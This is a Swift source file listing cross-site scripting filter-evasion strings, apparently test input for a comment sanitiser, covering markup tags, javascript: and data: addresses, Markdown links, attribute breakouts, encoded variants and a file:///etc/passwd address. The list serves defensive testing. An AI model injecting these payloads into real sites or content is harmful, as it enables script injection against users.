/// Ways to smuggle a script into a comment: the kinds that OWASP's cheat sheet on filter evasion lists, and those that aim at Markdown,
/// at attributes and at addresses.
enum HostileStrings {
  static let all = markup + addresses + markdown + attributes

  private static let markup = [
    #"<script>alert(1)</script>"#, #"<SCRIPT SRC=https://x.example/x.js></SCRIPT>"#, #"<ScRiPt >alert(1)</sCrIpT >"#,
    #"<<SCRIPT>alert("XSS");//\<</SCRIPT>"#, #"<SCRIPT/XSS SRC="https://x.example/x.js"></SCRIPT>"#,
    #"<SCRIPT SRC=//x.example/j>"#, #"</TITLE><SCRIPT>alert("XSS");</SCRIPT>"#, #"</script><script>alert(1)</script>"#,
    #"<IMG SRC=x onerror=alert(1)>"#, #"<IMG SRC="jav&#x0A;ascript:alert('XSS');">"#, #"<IMG """><SCRIPT>alert("XSS")</SCRIPT>">"#,
    #"<IMG SRC=`javascript:alert("RSnake says, 'XSS'")`>"#, #"<img src=x:alert(alt) onerror=eval(src) alt=0>"#,
    #"<BODY ONLOAD=alert('XSS')>"#, #"<BODY onload!#$%&()*~+-_.,:;?@[/|\]^`=alert("XSS")>"#, #"<svg/onload=alert('XSS')>"#,
    #"<svg><animate onbegin=alert(1) attributeName=x dur=1s>"#, #"<svg><a xlink:href="javascript:alert(1)"><text y=1>x</text></a></svg>"#,
    #"<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>"#,
    #"<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">"#,
    #"<iframe src=javascript:alert(1)></iframe>"#, #"<iframe srcdoc="<script>alert(1)</script>"></iframe>"#,
    #"<object data="data:text/html;base64,PHNjcmlwdD4="></object>"#, #"<embed src="//x.example/x.swf" allowscriptaccess=always>"#,
    #"<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">"#, #"<BASE HREF="javascript:alert('XSS');//">"#,
    #"<LINK REL="stylesheet" HREF="https://x.example/x.css">"#, #"<STYLE>@import'https://x.example/x.css';</STYLE>"#,
    #"<STYLE>body{background:url("javascript:alert(1)")}</STYLE>"#, #"<DIV STYLE="width: expression(alert('XSS'));">x</DIV>"#,
    #"<TABLE BACKGROUND="javascript:alert('XSS')"><TD BACKGROUND="javascript:alert(1)">x</TABLE>"#,
    #"<form action="javascript:alert(1)"><button>go</button></form>"#, #"<input autofocus onfocus=alert(1)>"#,
    #"<details open ontoggle=alert(1)><summary>x</summary></details>"#, #"<video><source onerror=alert(1)></video>"#,
    #"<audio src onloadstart=alert(1)>"#, #"<marquee onstart=alert(1)>x</marquee>"#, #"<textarea autofocus onfocus=alert(1)>"#,
    #"<noscript><p title="</noscript><img src=x onerror=alert(1)>">"#, #"<template><script>alert(1)</script></template>"#,
    #"<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->"#, #"<!--><img src=x onerror=alert(1)>-->"#,
    #"<![CDATA[<script>alert(1)</script>]]>"#, #"<?xml-stylesheet href="javascript:alert(1)"?><x>"#,
    #"</li></ol></section></article><script>alert(1)</script>"#, #"</div></div><iframe src="//x.example">"#,
    #"<xmp><p title="</xmp><svg/onload=alert(1)>">"#,
    "<plaintext>", "<textarea>", "<select>", "<!--", "<title>", "<frameset onload=alert(1)>",
    "<a href=\"https://x.example/\" ping=\"//y.example\">x</a>",
  ]

  private static let addresses = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    "\u{1}javascript:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)", "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=", "feed:javascript:alert(1)", "view-source:x",
    "file:///etc/passwd",
    "//x.example/x", "\\\\x.example\\x", "https:javascript:alert(1)", "https://x.example/\" onmouseover=\"alert(1)",
    "https://x.example/' onmouseover='alert(1)", "https://x.example/><script>alert(1)</script>", "https://x.example/javascript:alert(1)",
    "https://", "http:///x", "https://javascript:alert(1)@x.example/", "https://x.example\u{202E}/elpmaxe",
    "https://x.example/`onclick=alert(1)`",
  ]

  private static let markdown = [
    "[x](javascript:alert(1))", "[x](java\nscript:alert(1))", "[x](<javascript:alert(1)>)", "[x](&#106;avascript:alert(1))",
    "[x](j&#x61;vascript:alert(1))", "<javascript:alert(1)>", "![x](https://x.example/pixel.png)", "![x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x][r]\n\n[r]: javascript:alert(1)", "[x](https://x.example \"\\\" onclick=alert(1)\")",
    "```\"><script>alert(1)</script>\nx\n```", "`<script>alert(1)</script>`", "<https://x.example/\"onmouseover=alert(1)>",
    "> <script>\n> alert(1)\n> </script>", "| a |\n|---|\n| <img src=x onerror=alert(1)> |", "# <script>alert(1)</script>",
    "* <style>* { display: none }</style>",
    "[^x]\n\n[^x]: <script>alert(1)</script>", "{{ site.title }}{% include 'base.html' %}", "\\<script>alert(1)</script>",
    "[x](vbscript:msgbox(1)) [y](VBSCRIPT:x)", "[a](javascript:alert('x')//https://x.example)", "<div\nonclick=alert(1)>x</div>",
  ]

  private static let attributes = [
    "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "\"><img src=x onerror=alert(1)>", "'><svg/onload=alert(1)>",
    "&quot; onclick=&quot;alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "\\\"; alert(1); //", "--></script><script>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\u{FF1C}script\u{FF1E}alert(1)", "\u{2028}alert(1)\u{2029}", "\u{202E}txt.exe\u{202C}",
  ]
}
